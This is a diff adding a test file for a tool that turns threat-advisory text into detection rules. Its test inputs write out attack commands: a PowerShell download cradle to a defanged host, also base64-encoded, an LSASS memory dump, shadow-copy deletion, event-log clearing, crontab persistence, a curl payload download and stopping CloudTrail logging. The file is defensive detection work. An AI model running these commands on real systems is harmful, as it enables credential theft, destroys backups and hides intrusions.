@@ -1,0 +1,122 @@
+import { type GeneratedRule, generate } from '@tripline/advisory';
+import { textAdvisory } from './support/documents.js';
+
+async function rulesOf(text: string): Promise<readonly GeneratedRule[]> {
+  return generate(await textAdvisory(text)).rules;
+}
+const on = (rules: readonly GeneratedRule[], platform: string) => rules.filter((rule) => rule.platform === platform);
+
+const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('hxxp://heron-stage[.]net/a.ps1')";
+
+describe('PowerShell', () => {
+  it('a download cradle by itself gives a script block rule with its telling names and the host', async () => {
+    const [rule] = on(await rulesOf(`The next stage was loaded into memory:\n\n${CRADLE}\n`), 'endpoint-powershell');
+    expect(rule?.yaml).toContain("ScriptBlockText|contains|all:\n            - 'IEX'\n");
+    for (const part of ['Net.WebClient', 'DownloadString', 'heron-stage.net'])
+      expect(rule?.yaml).toContain(`- '${part}'`);
+    expect(rule?.techniques).toEqual(['T1059.001', 'T1105']);
+  });
+
+  it('prose that names the same parts gives none', async () => {
+    const text = 'Scripts that use Net.WebClient together with IEX are common, said the Windows team.';
+    expect(on(await rulesOf(text), 'endpoint-powershell')).toEqual([]);
+  });
+
+  it('an encoded command is found by what it decodes to, not by its text alone', async () => {
+    const payload = Buffer.from(CRADLE.replace('hxxp', 'http').replace('[.]', '.'), 'utf16le').toString('base64');
+    const rules = await rulesOf(`They ran this:\n\npowershell.exe -nop -w hidden -enc ${payload}\n`);
+    const [command] = on(rules, 'endpoint-sysmon');
+    expect(command?.yaml).toContain("CommandLine|wide|base64offset|contains: 'IEX (New-Object'");
+    expect(command?.evidence).toContainEqual({
+      field: 'CommandLine',
+      value: 'IEX (New-Object',
+      template: 'decoded-encoded-command',
+    });
+    const [script] = on(rules, 'endpoint-powershell');
+    expect(script?.yaml).toContain("- 'DownloadString'");
+  });
+
+  it('an argument that is no encoded text stays as it is', async () => {
+    const rules = await rulesOf('They ran powershell.exe -nop -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVldY there.');
+    for (const { yaml } of rules) expect(yaml).not.toContain('base64offset');
+  });
+});
+
+describe('command lines', () => {
+  it.each([
+    [
+      'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 700 C:\\Temp\\heron.dmp full',
+      'LSASS Memory Dump Through Comsvcs With Rundll32',
+      'heron',
+    ],
+    ['vssadmin.exe delete shadows /for=D: /quiet', 'Shadow Copy Deletion With Vssadmin', 'quiet'],
+  ])('that tell by themselves are kept free of the actor’s own names: %s', async (line, title, own) => {
+    const [rule] = on(await rulesOf(`The intruders ran this on the server:\n\n${line}\n`), 'endpoint-sysmon');
+    expect(rule?.title).toBe(title);
+    expect(rule?.level).toBe('high');
+    expect(rule?.yaml).not.toContain(own);
+  });
+
+  it('keep a quoted name of several words whole', async () => {
+    const line = 'schtasks.exe /create /tn "Heron Sync Helper" /tr C:\\ProgramData\\heron\\sync.exe /sc daily';
+    const [rule] = on(await rulesOf(`They ran this:\n\n${line}\n`), 'endpoint-sysmon');
+    expect(rule?.yaml).toContain("- 'Heron Sync Helper'");
+  });
+
+  it('keep the short sub-command that makes them telling', async () => {
+    const [rule] = on(await rulesOf('They ran wevtutil.exe cl Security to hide.'), 'endpoint-sysmon');
+    expect(rule?.yaml).toContain("' cl '");
+  });
+
+  it('say in the description why it matters', async () => {
+    const [rule] = on(await rulesOf('They ran vssadmin.exe delete shadows /all.'), 'endpoint-sysmon');
+    expect(rule?.description).toMatch(/^Detects vssadmin .+ Without copies to restore from/);
+  });
+});
+
+describe('Linux', () => {
+  it('a crontab written from a pipe gives a persistence rule', async () => {
+    const text = 'On the Linux host persistence was set up:\n\necho "*/7 * * * * /tmp/.heron" | crontab -\n';
+    const [rule] = on(await rulesOf(text), 'endpoint-auditd');
+    expect(rule?.techniques).toEqual(['T1053.003']);
+    expect(rule?.tests.noMatch.length).toBeGreaterThan(0);
+  });
+
+  it('a crontab that is listed gives none', async () => {
+    expect(on(await rulesOf('On Linux they ran crontab -l and left.'), 'endpoint-auditd')).toEqual([]);
+  });
+
+  it('a download is told by the file it writes', async () => {
+    const text = 'On the Linux host:\n\ncurl -fsSL http://203.0.113.9/x -o /tmp/.heron/run\n';
+    const [rule] = on(await rulesOf(text), 'endpoint-auditd');
+    expect(rule?.yaml).toContain("'/tmp/.heron/run'");
+  });
+
+  it('kubectl commands are left to the cluster’s own log', async () => {
+    const rules = await rulesOf('In Kubernetes they ran kubectl exec -it heron-0 -- /bin/sh on a Linux host.');
+    expect(rules.map(({ platform }) => platform)).toEqual(['container-audit']);
+  });
+});
+
+describe('cloud rules', () => {
+  it('join the calls of one step and are titled by what was done', async () => {
+    const rules = await rulesOf('With the keys they called CreateUser, CreateAccessKey and StopLogging in AWS.');
+    expect(rules.map(({ title }) => title)).toEqual([
+      'AWS IAM User Created And Access Key Created',
+      'AWS CloudTrail Logging Stopped',
+    ]);
+  });
+
+  it('do not take a cluster’s secrets for those of a cloud', async () => {
+    const text =
+      'AWS keys were stolen from an EC2 host; CloudTrail was off, IAM user rights were wide.\n\nIn the cluster they listed secrets with kubectl get secrets -A.';
+    const rules = await rulesOf(text);
+    expect(rules.map(({ title }) => title)).toEqual(['Kubernetes Secrets Listed']);
+  });
+
+  it('leave out what administrators are told to do', async () => {
+    const text =
+      'The AWS account lost its keys.\n\n## What to do\n\nAdministrators can check AWS with aws cloudtrail get-trail-status.';
+    expect(await rulesOf(text)).toEqual([]);
+  });
+});
